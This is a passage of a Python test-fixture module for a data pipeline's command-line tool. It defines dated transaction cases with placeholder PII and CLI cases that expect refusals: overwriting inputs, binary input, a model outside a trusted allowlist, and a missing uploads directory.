                           ["CL_000002", "ORD_PII_1", "2025-06-02", "P0003", "1", f"tel {PHONE_TX}"]),
             planted=(EMAIL_TX, PHONE_TX), check=_check_transactions))

    early = [c for c in cases if c.early]
    late = [c for c in cases if not c.early]
    out = [_dated(c, EARLY_UPLOAD + timedelta(days=k)) for k, c in enumerate(early)]
    out += [_dated(c, FIRST_UPLOAD + timedelta(days=k)) for k, c in enumerate(late)]
    names = [c.name for c in out]
    assert len(set(names)) == len(names), "case names must be unique"
    return out


def _dated(case: Case, day: date) -> Case:
    from dataclasses import replace

    return replace(case, upload_date=day.isoformat())


CASES: list[Case] = build_cases()


@dataclass(frozen=True)
class CliCase:
    """A refusal of the CLI: exit code 2 and one ``error:`` line on stderr containing ``message``."""

    name: str
    what: str
    args: Callable[[dict[str, str]], list[str]]  # from the paths of the run (input, data_dir, ...)
    message: str
    untrusted_model: bool = False  # run against an MLflow store whose champion is outside the allowlist


CLI_CASES: list[CliCase] = [
    CliCase("predict_output_is_its_input", "predict --output equal to the input file",
            lambda p: ["predict", p["input"], "--id-column", "ID", "--text-column", "Transcription",
                       "--output", p["input"], "--data-dir", p["data_dir"]],
            "refusing to overwrite an input"),
    CliCase("predict_output_is_transactions", "predict --output equal to the data dir's transactions.csv",
            lambda p: ["predict", p["input"], "--id-column", "ID", "--text-column", "Transcription",
                       "--output", p["transactions"], "--data-dir", p["data_dir"]],
            "refusing to overwrite an input"),
    CliCase("predict_output_inside_uploads", "predict --output inside uploads/",
            lambda p: ["predict", p["input"], "--id-column", "ID", "--text-column", "Transcription",
                       "--output", p["uploads"] + "/2026-01-05/scored.csv", "--data-dir", p["data_dir"]],
            "which the pipeline reads as input"),
    CliCase("predict_binary_input", "predict on a zip renamed .csv",
            lambda p: ["predict", p["zip_input"], "--id-column", "ID", "--text-column", "Transcription",
                       "--output", p["out"], "--data-dir", p["data_dir"]],
            "binary"),
    CliCase("predict_untrusted_model", "the champion is a model outside the skops allowlist",
            lambda p: ["predict", p["input"], "--id-column", "ID", "--text-column", "Transcription",
                       "--output", p["out"], "--data-dir", p["data_dir"]],
            "outside the trusted allowlist", untrusted_model=True),
    CliCase("run_without_uploads", "run on a data dir without uploads",
            lambda p: ["run", "--data-dir", p["empty_data_dir"]], "no upload found"),
]
